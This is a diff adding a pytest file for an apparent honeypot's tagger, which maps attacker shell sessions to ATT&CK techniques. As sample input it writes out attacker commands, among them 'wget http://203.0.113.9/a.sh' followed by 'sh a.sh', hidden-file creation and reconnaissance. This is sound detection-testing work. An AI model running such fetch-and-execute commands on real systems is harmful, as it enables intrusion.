@@ -1,0 +1,178 @@
+"""What a session tells about its commands becomes tags: the rules of context, what they replace, and their evidence."""
+
+from __future__ import annotations
+
+import json
+from pathlib import Path
+from typing import Any
+
+import pytest
+from typer.testing import CliRunner
+
+from decnet.bounds import BITES
+from decnet.bus.base import Event
+from decnet.errors import RuleError
+from decnet.runtime.received import received
+from decnet.ttp.context import SCRIPT_CAPPED, session_context
+from decnet.ttp.events import tagger_events
+from decnet.ttp.loader import load_dir, load_file
+from decnet.ttp.offline import OfflineTagger
+from decnet.ttp.offline_sessions import tag_session
+from decnet.ttp.rule_engine import RuleEngine
+from decnet.ttp.rules import RuleState
+from decnet.ttp.schema import RuleSchema
+from decnet.ttp.selftest import run_rule_tests
+from decnet_tui.cli.main import app
+
+ROOT = Path(__file__).parents[2]
+RULES = ROOT / "rules" / "ttp"
+CASES = json.loads((Path(__file__).parents[1] / "fixtures" / "cases" / "sessions.json").read_text("utf-8"))
+PROBE = ["echo 77 > /var/tmp/.probe9", "cat /var/tmp/.probe9", "rm -f /var/tmp/.probe9"]
+
+
+@pytest.fixture(scope="module")
+def tagger() -> OfflineTagger:
+    return OfflineTagger(RULES)
+
+
+def ended(lines: list[str], **more: Any) -> Event:
+    commands = [{"id": f"s#cmd{n}", "command_text": text, "ts": 100.0 + n} for n, text in enumerate(lines)]
+    payload = {"session_id": "s", "attacker_ip": "192.0.2.7", "ended_at": 200.0, "commands": commands}
+    return Event("attacker.session.ended", {**payload, **more}, id="e", ts=200.0)
+
+
+def techniques(tags: list[dict[str, Any]]) -> set[str]:
+    return {tag["sub_technique_id"] or tag["technique_id"] for tag in tags}
+
+
+@pytest.mark.parametrize("case", CASES, ids=[case["id"] for case in CASES])
+def test_every_line_of_a_session_has_its_techniques(case: dict[str, Any], tagger: OfflineTagger) -> None:
+    answer = tag_session(tagger, {"session": case["id"], "commands": [line["cmd"] for line in case["lines"]]})
+    assert [c["input"] for c in answer["commands"]] == [line["cmd"] for line in case["lines"]]
+    for line, command in zip(case["lines"], answer["commands"], strict=True):
+        found = techniques(command["tags"])
+        assert set(line["tags"]) <= found, line["cmd"]
+        assert not found & set(line["not"]), line["cmd"]
+
+
+def engine() -> RuleEngine:
+    made = RuleEngine()
+    made.replace(load_dir(RULES).rules, {})
+    return made
+
+
+def test_evidence_names_the_line_that_a_tag_rests_on() -> None:
+    made = engine()
+    events = tagger_events(received(ended(["cd /tmp", "wget http://203.0.113.9/a.sh", "sh a.sh"])))
+    (last,) = [e for e in events if e.source_id == "s#cmd2"]
+    (tag,) = [t for t in made.evaluate(last) if t.rule_id == "R0901"]
+    assert (tag.technique_id, tag.sub_technique_id, tag.source_kind) == ("T1059", "T1059.004", "command")
+    assert tag.evidence is not None
+    assert tag.evidence["because"] == "fetched by line 2: wget http://203.0.113.9/a.sh"
+    assert (tag.evidence["field"], tag.evidence["matched"]) == ("exec.origin", "fetched")
+
+
+def test_what_is_replaced_is_counted_and_a_disabled_rule_replaces_nothing() -> None:
+    made = engine()
+    (event,) = [e for e in tagger_events(received(ended(PROBE))) if e.source_id == "s#cmd0"]
+    found = {t.sub_technique_id or t.technique_id for t in made.evaluate(event)}
+    assert "T1083" in found
+    assert "T1564.001" not in found
+    assert made.replaced == {"R0078": 1}
+    made.replace_states({"R0920": RuleState("disabled")})
+    assert "T1564.001" in {t.sub_technique_id for t in made.evaluate(event)}
+    assert made.replaced == {"R0078": 1}
+
+
+def test_only_the_text_that_a_rule_holds_for_loses_tags() -> None:
+    made = engine()
+    line = "echo 77 > /var/tmp/.probe9; mkdir /tmp/.hidden; mv /tmp/x /tmp/.y"
+    (event,) = [e for e in tagger_events(received(ended([line]))) if e.source_kind == "command"]
+    alone = {t.rule_id for t in made.evaluate(event._replace(payload={"command_text": "mkdir /tmp/.hidden"}))}
+    assert alone <= {t.rule_id for t in made.evaluate(event)} | {"R0078"}
+
+
+def test_lines_that_the_shell_saw_as_one_are_read_as_one() -> None:
+    lines = ["cat > /tmp/q <<EOF", "id; uname -a", "EOF", "sh /tmp/q"]
+    joined = [
+        {"id": "s#cmd0+2", "command_text": "\n".join(lines[:3]), "lines": ["s#cmd0", "s#cmd1", "s#cmd2"]}
+    ]
+    record = received(ended(lines, joined=joined)).record
+    told = session_context(record)  # type: ignore[arg-type]
+    assert set(told) == {"s#cmd0+2", "s#cmd3"}
+    (facts,) = told["s#cmd3"].values()
+    assert facts.values["exec.origin"] == ["written"]
+
+
+def test_files_that_the_sensor_saw_come_are_known() -> None:
+    uploads = [{"filename": "/tmp/quonba", "sha256": "ab" * 32}]
+    record = received(ended(["./quonba"], uploads=uploads)).record
+    (facts,) = session_context(record)["s#cmd0"].values()  # type: ignore[arg-type]
+    assert facts.values["later.exec"] == ["uploaded"]
+
+
+def test_bounds_are_counted_for_health() -> None:
+    before = BITES[SCRIPT_CAPPED]
+    session_context(received(ended(["; ".join(f"x{n}" for n in range(259))])).record)  # type: ignore[arg-type]
+    assert BITES[SCRIPT_CAPPED] - before == 3
+
+
+RULE = """
+rule_id: X1
+rule_version: 1
+name: x
+description: x
+applies_to: [command]
+match: {field: exec.origin, op: in, value: [fetched]}
+emits: [{tactic: TA0002, technique_id: T1059, confidence: 0.9}]
+tests:
+  match: [%s]
+"""
+
+
+def flaws_of(folder: Path, example: str) -> list[RuleError]:
+    path = folder / "x.yaml"
+    path.write_text(RULE % example, "utf-8")
+    rule, errors = load_file(path)
+    assert errors == []
+    assert rule is not None
+    return run_rule_tests([rule])
+
+
+def test_examples_may_be_sessions_and_name_the_line_that_is_meant(tmp_path: Path) -> None:
+    assert flaws_of(tmp_path, '["wget http://203.0.113.9/a", "./a"]') == []
+    assert flaws_of(tmp_path, '{session: ["wget http://203.0.113.9/a", "./a", "ls"], fires: 2}') == []
+    (wrong,) = flaws_of(tmp_path, '["wget http://203.0.113.9/a", "ls"]')
+    assert "does not match" in str(wrong)
+    (outside,) = flaws_of(tmp_path, '{session: ["ls"], fires: 2}')
+    assert "fires names one of 1 lines" in str(outside)
+
+
+def test_replaces_takes_techniques_only() -> None:
+    body = {
+        "rule_id": "X1", "rule_version": 1, "name": "x", "description": "x", "applies_to": ["command"],
+        "match": {"pattern": "x"}, "emits": [{"tactic": "TA0002", "technique_id": "T1059", "confidence": 0.9}],
+    }  # fmt: skip
+    assert RuleSchema.model_validate({**body, "replaces": ["T1070.004"]}).replaces == ["T1070.004"]
+    with pytest.raises(ValueError, match="replaces"):
+        RuleSchema.model_validate({**body, "replaces": ["rm"]})
+
+
+def test_sessions_are_answered_in_order_and_what_is_none_is_named() -> None:
+    lines = [
+        json.dumps({"session": "one", "commands": ["wget http://203.0.113.9/a", {"text": "./a", "ts": 5}]}),
+        json.dumps(
+            {"session": "two", "commands": [], "uploads": [{"filename": "/tmp/x.sh", "sha256": "ab" * 32}]}
+        ),
+        "no json",
+        json.dumps({"session": "three", "commands": [7]}),
+    ]
+    done = CliRunner().invoke(app, ["tag", "--sessions", "-"], input="\n".join(lines) + "\n")
+    assert done.exit_code == 1
+    answers = [json.loads(line) for line in done.stdout.splitlines() if line.startswith("{")]
+    assert [answer.get("session") for answer in answers] == ["one", "two", None, None]
+    assert [command["input"] for command in answers[0]["commands"]] == ["wget http://203.0.113.9/a", "./a"]
+    assert "T1059.004" in techniques(answers[0]["commands"][1]["tags"])
+    assert "T1105" in techniques(answers[1]["session_tags"])
+    assert [answer["line"] for answer in answers[2:]] == [3, 4]
+    assert "line 3: no session" in done.stderr
